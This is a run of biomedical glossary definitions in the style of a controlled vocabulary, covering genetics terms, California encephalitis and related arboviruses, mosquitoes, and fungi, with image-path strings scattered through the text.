Deliberate breeding of two different individuals that results in offspring that carry part of the genetic material of each parent. The parent organisms must be genetically compatible and may be from different varieties or closely related species.
A serotype of the species California encephalitis virus (ENCEPHALITIS VIRUS, CALIFORNIA), in the genus ORTHOBUNYAVIRUS, causing human MENINGOENCEPHALITIS. This is the agent most responsible for California encephalitis (ENCEPHALITIS, CALIFORNIA), the most prevalent mosquito-borne disease recognized in the United States.
A viral infection of the brain caused by serotypes of California encephalitis virus (ENCEPHALITIS VIRUS, CALIFORNIA) transmitted to humans by the mosquito AEDEStriseriatus. The majority of cases are caused by the LA CROSSE VIRUS. This condition is endemic to the midwestern United States and primarily affects children between 5-10 years of age. Clinical manifestations include FEVER;VOMITING; HEADACHE; and abdominal pain followed by SEIZURES, altered mentation, and focal neurologic deficits. (From Joynt, Clinical Neurology, 1996, Ch26, p13)
A species in theORTHOBUNYAVIRUS genus of the family BUNYAVIRIDAE. Serotypes are found in temperate and arctic regions and each is closely associated with a single species of vector mosquito. The vertebrate hosts are usually small mammals but several serotypes infect humans.
The genetic process of crossbreeding between genetically dissimilar parents to produce a hybrid.
A family of viruses, mainly arboviruses, consisting of a single strand of RNA. Virions are enveloped particles 90-120 nm diameter. The complete family contains over 300 members arranged in five genera: ORTHOBUNYAVIRUS; HANTAVIRUS; NAIROVIRUS; PHLEBOVIRUS; and TOSPOVIRUS.
The adaptive superiority of the heterozygous GENOTYPE with respect to one or more characters in comparison with the corresponding HOMOZYGOTE.
Any method used for determining the location of and relative distances between genes on a chromosome.
The production of offspring by selective mating or HYBRIDIZATION, GENETIC in animals or plants.
Genetic loci associated with a QUANTITATIVE TRAIT.
The co-inheritance of two or more non-allelic GENES due to their being located more or less closely on the same CHROMOSOME.
Production of new arrangements of DNA by various mechanisms such as assortment and segregation, CROSSING OVER; GENE CONVERSION; GENETIC TRANSFORMATION; GENETIC CONJUGATION; GENETIC TRANSDUCTION; or mixed infection of viruses.
The mating of plants or non-human animals which are closely related genetically.
The outward appearance of the individual. It is the product of interactions between genes, and between the GENOTYPE and the environment.
The total process by which organisms produce offspring. (Stedman, 25th ed)
A collection of single-stranded RNA viruses scattered across the Bunyaviridae, Flaviviridae, and Togaviridae families whose common property is the ability to induce encephalitic conditions in infected hosts.
A phenotypically recognizable genetic trait which can be used to identify a genetic locus, a linkage group, or a recombination event.
Any detectable and heritable change in the genetic material that causes a change in the GENOTYPE and which is transmitted to daughter cells and to succeeding generations.
Infections of the brain caused by arthropod-borne viruses (i.e., arboviruses) primarily from the families TOGAVIRIDAE; FLAVIVIRIDAE; BUNYAVIRIDAE; REOVIRIDAE; and RHABDOVIRIDAE. Life cycles of these viruses are characterized by ZOONOSES, with birds and lower mammals serving as intermediate hosts. The virus is transmitted to humans by the bite of mosquitoes (CULICIDAE) or TICKS. Clinical manifestations include fever, headache, alterations of mentation, focal neurologic deficits, and COMA. (From Clin Microbiol Rev 1994 Jan;7(1):89-116; Walton, Brain'sDiseases of the Nervous System, 10th ed, p321)
The different ways GENES and their ALLELES interact during the transmission of genetic traits that effect the outcome of GENE EXPRESSION.
Variant forms of the same gene, occupying the same locus on homologous CHROMOSOMES, and governing the variants in production of the same gene product.
The restriction of a characteristic behavior, anatomical structure or physical system, such as immune response; metabolic response, or gene or gene variant to the members of one species. It refers to that property which differentiates one species from another but it is also used for phylogenetic levels higher or lower than the species.
Theoretical representations that simulate the behavior or activity ofgenetic processes or phenomena. They include the use of mathematical equations, computers, and other electronic equipment.
The genetic constitution of the individual, comprising the ALLELES present at each GENETIC LOCUS.
A characteristic showing quantitative inheritance such as SKIN PIGMENTATION in humans. (From A Dictionary of Genetics, 4th ed)
Mechanisms that prevent different populations from exchanging genes (GENE FLOW), resulting in or maintaining GENETIC SPECIATION. It can either prevent mating to take place or ensure that any offspring produced is either inviable or sterile, thereby preventing further REPRODUCTION.
The capacity to conceive or to induce conception. It may refer to either the male or female.
A principle of estimation in which the estimates of a set of parameters in a statistical model are those quantities minimizing the sum of squared differences between the observed values of a dependent variable and the values predicted by the model.
Genetically identical individuals developed from brother and sister matings which have been carried out for twenty or more generations, or by parent x offspring matings carried out with certain restrictions. All animals within an inbred strain trace back to a common ancestor in the twentieth generation.
Permanent deprivation of breast milk and commencement of nourishment with otherfood. (From Stedman, 25th ed)
The encapsulated embryos of flowering plants. They are used as is or for animal feed because of the high content of concentrated nutrients like starches, proteins, and fats. Rapeseed, cottonseed, and sunflower seed are also produced for the oils (fats) they yield.
Genotypic differences observed among individuals in a population.
The chromosomal constitution of a cell containing multiples of the normal number of CHROMOSOMES; includes triploidy (symbol: 3N), tetraploidy (symbol: 4N), etc.
The fertilizing element of plants that contains the male GAMETOPHYTES.
Complex nucleoprotein structures which contain the genomic DNA and are part of the CELL NUCLEUS of PLANTS.
Complex nucleoprotein structures which contain the genomic DNA and are part of the CELL NUCLEUS of MAMMALS.
The chromosomal constitution of cells, in which each type of CHROMOSOME is represented twice. Symbol: 2N or 2X.
A category of nucleic acid sequences that function as units of heredity and which code for the basic instructions for the development, reproduction, and maintenance of organisms.
In a prokaryotic cell or in thenucleus of a eukaryotic cell, a structure consisting of or containing DNA which carries the genetic information essential to the cell. (From Singleton & Sainsbury, Dictionary of Microbiology and Molecular Biology, 2d ed)
A plant genus of the family NELUMBONACEAE. The common name of lotus is also for LOTUS and NYMPHAEA.
A form of gene interaction whereby the expression of one gene interferes with or masks the expression of a different gene or genes. Genes whose expression interferes with or masks the effects of other genes are said to be epistatic to the effected genes. Genes whose expression is affected (blocked or masked) are hypostatic to the interfering genes.
The functional hereditary units of PLANTS.
A genus of bacteria comprised of a heterogenous group of gram-negative small rods and coccoid forms associated with arthropods. (From Bergey's Manual of Systematic Bacteriology, vol 1, 1984)
A parasexual process in BACTERIA; ALGAE; FUNGI; and ciliate EUKARYOTA for achieving exchange of chromosome material during fusion of two cells. In bacteria, this is a uni-directional transfer of genetic material; in protozoa it is a bi-directional exchange. In algae and fungi, it is a form of sexual reproduction, with the union of male and female gametes.
An individual that contains cell populationsderived from different zygotes.
An individual having different alleles at one or more loci regarding a specific character.
The transfer of POLLEN grains (male gametes) to the plant ovule (female gamete).
A family of the order Rodentia containing 250 genera including the two genera Mus (MICE) and Rattus (RATS), from which the laboratory inbred strains are developed. The fifteen subfamilies are SIGMODONTINAE (New World mice and rats), CRICETINAE, Spalacinae, Myospalacinae, Lophiomyinae, ARVICOLINAE, Platacanthomyinae, Nesomyinae, Otomyinae, Rhizomyinae, GERBILLINAE, Dendromurinae, Cricetomyinae, MURINAE (Old World mice and rats), and Hydromyinae.
A genus of ascomycetous fungi of the family Hypocreaceae, order Hypocreales including several pathogens of grains and cereals. It is also the source of plant growth regulators such as gibberellin and gibberellic acid.
Vertical transmission of hereditary characters by DNA from cytoplasmic organelles such as MITOCHONDRIA; CHLOROPLASTS; and PLASTIDS, or from PLASMIDS or viral episomal DNA.
A species of ascomycetous fungi of the family Sordariaceae, order SORDARIALES, much used in biochemical, genetic, andphysiologic studies.
The genetic complement of a plant (PLANTS) as represented in its DNA.
A genus ofmosquitoes (CULICIDAE) frequently found in tropical and subtropical regions. YELLOW FEVER and DENGUE are two of the diseases that can be transmitted by species of this genus.
The reciprocal exchange of segments at corresponding positions along pairs of homologous CHROMOSOMES by symmetrical breakage andcrosswise rejoining forming cross-over sites (HOLLIDAY JUNCTIONS) that are resolved during CHROMOSOME SEGREGATION. Crossing-over typically occurs during MEIOSIS but it may also occur in the absence of meiosis, for example, with bacterial chromosomes, organelle chromosomes, or somatic cell nuclear chromosomes.
A test used to determine whether or not complementation (compensation in the form of dominance) will occur in a cell with a given mutant phenotype when another mutant genome, encoding the same mutant phenotype, is introduced into that cell.
The branch of science concerned with the means and consequences of transmission and generation of the components of biological inheritance. (Stedman, 26th ed)
The transfer of bacterial DNA by phages from an infected bacterium to another bacterium. This also refers to the transfer of genes into eukaryotic cells by viruses. This naturally occurring process is routinely employed as a GENE TRANSFER TECHNIQUE.
The sequence of PURINES and PYRIMIDINES in nucleic acids and polynucleotides. It is also called nucleotide sequence.
Descriptions of specific amino acid, carbohydrate, or nucleotide sequences which have appeared in the published literature and/or are deposited in and maintained by databanks such as GENBANK, European Molecular Biology Laboratory (EMBL), National Biomedical Research Foundation (NBRF), or other sequence repositories.
A plant genus of the family Plantaginaceae. The small plants usually have a dense tuft of basal leaves and long, leafless stalks bearing a terminal spike of small flowers. The seeds, known as PSYLLIUM, swell in water and are used as laxatives. The leaves have been used medicinally.
Fungal genes that mostly encode TRANSCRIPTIONFACTORS. In some FUNGI they also encode PHEROMONES and PHEROMONE RECEPTORS. The transcription factors control expression of specific proteins that give a cell its mating identity. Opposite mating type identities are required for mating.
Reproductive bodiesproduced by fungi.
A plant species of the family POACEAE. It is a tall grass grown for its EDIBLE GRAIN, corn, used as food and animal FODDER.
Structures within the nucleus of bacterial cells consisting of or containing DNA, which carry genetic information essential to the cell.
Differential and non-random reproduction of different genotypes, operating to alter the gene frequencies within a population.
Domesticated bovine animals of the genus Bos, usually kept on afarm or ranch and used for the production of meat or dairy products or for heavy labor.
An individual in which both alleles at a given locus are identical.
The presence of four sets of chromosomes. It is associated with ABNORMALITIES, MULTIPLE; and MISCARRAGES.
Cultivated plants or agricultural produce such as grain, vegetables, or fruit. (From American Heritage Dictionary, 1982)
A genus of ascomycetous fungi, family Sordariaceae, order SORDARIALES, comprising bread molds. They are capable of converting tryptophan to nicotinic acid and are used extensively in genetic and enzyme research. (Dorland, 27th ed)
A phylum of fungi which have cross-walls or septa in the mycelium. The perfect state is characterized by the formation of a saclike cell (ascus) containing ascospores. Most pathogenic fungi with a known perfect state belong to this phylum.
Specialized non-fenestrated tightly-joined ENDOTHELIAL CELLS with TIGHT JUNCTIONS that form a transport barrier for certain substances between the cerebral capillaries and the BRAIN tissue.
Genes that influence the PHENOTYPE both in the homozygous and the heterozygous state.
Coloration or discoloration of a part by a pigment.
The female sex chromosome, being the differential sex chromosome carried by half the male gametes and all female gametes in human and other male-heterogametic species.
The transport of materials through a cell. It includes the uptake of materials by the cell (ENDOCYTOSIS), the movement of those materials through the cell, and the subsequent secretion of those materials (EXOCYTOSIS).
A type of CELL NUCLEUS division, occurring during maturation of the GERM CELLS. Two successive cell nucleus divisions following a single chromosome duplication (S PHASE) result in daughter cells with half the number of CHROMOSOMES as the parent cells.
Deoxyribonucleic acid that makes up the genetic material ofplants.
A family of the order DIPTERA that comprises the mosquitoes. The larval stages are aquatic, and the adults can be recognized by the characteristic WINGS, ANIMAL venation, the scales along the wing veins, and the long proboscis. Many species are of particular medical importance.
The reproductive organs of plants.
The reproductive cells of plants.
The chromosomal constitution of cells, in which each type of CHROMOSOME is represented once. Symbol: N.
The number of males per 100 females.
Arthropod-borne viruses. A non-taxonomic designation for viruses that can replicate in both vertebrate hosts and arthropodvectors. Included are some members of the following families: ARENAVIRIDAE; BUNYAVIRIDAE; REOVIRIDAE; TOGAVIRIDAE; and FLAVIVIRIDAE. (From Dictionary of Microbiology and Molecular Biology, 2nd ed)
The degree of replication of the chromosome set in the karyotype.
The discipline studying genetic composition of populations and effects of factors such as GENETIC SELECTION, population size, MUTATION, migration, and GENETIC DRIFT on the frequencies of various GENOTYPES and PHENOTYPES using a variety of GENETIC TECHNIQUES.
Genes whose loss of function or gain of function MUTATION leads to the death of the carrier prior to maturity. They may be essential genes (GENES, ESSENTIAL) required for viability, or genes which cause a block of function of an essential gene at a time when the essential gene function is required for viability.
The mass or quantity of heaviness of an individual. It is expressed by units of pounds or kilograms.
A species of fruit fly much used in genetics because of the large size of its chromosomes.
A genus of mosquitoes in the family CULICIDAE. A large number of the species are found in the neotropical part of the Americas.
Genes that influence the PHENOTYPE only in the homozygous state.
The saxifrage plant family of the order ROSALES, subclass Rosidae, class Magnoliopsida. The leaves are alternate and sometimes deeply lobed or form rosettes. The flowers have both male and female partsand 4 or 5 sepals and petals; they are usually in branched clusters. The fruit is a capsule with many seeds.
The failure of PLANTS to complete fertilization and obtain seed (SEEDS) as a result of defective POLLEN or ovules, or other aberrations. (Dict. of Plant Genet. and Mol. Biol., 1998)
The number of offspring produced at one birth by a viviparous animal.
The homologous chromosomes that are dissimilar in the heterogametic sex. There are the X CHROMOSOME, the Y CHROMOSOME, and the W, Z chromosomes (in animals in which the female is the heterogametic sex (the silkworm moth Bombyx mori, for example)). In such cases the W chromosome is the female-determining and the male is ZZ. (From King & Stansfield, A Dictionary of Genetics, 4th ed)
The functional hereditary units of FUNGI.
The fusion of a male gamete with a female gamete from the same individual animal or plant.
Double-stranded DNA of MITOCHONDRIA. In eukaryotes, the mitochondrial GENOME is circular and codes for ribosomal RNAs, transfer RNAs, and about 10 proteins.
The process of cumulative change over successive generations through which organisms acquire their distinguishing morphological and physiological characteristics.
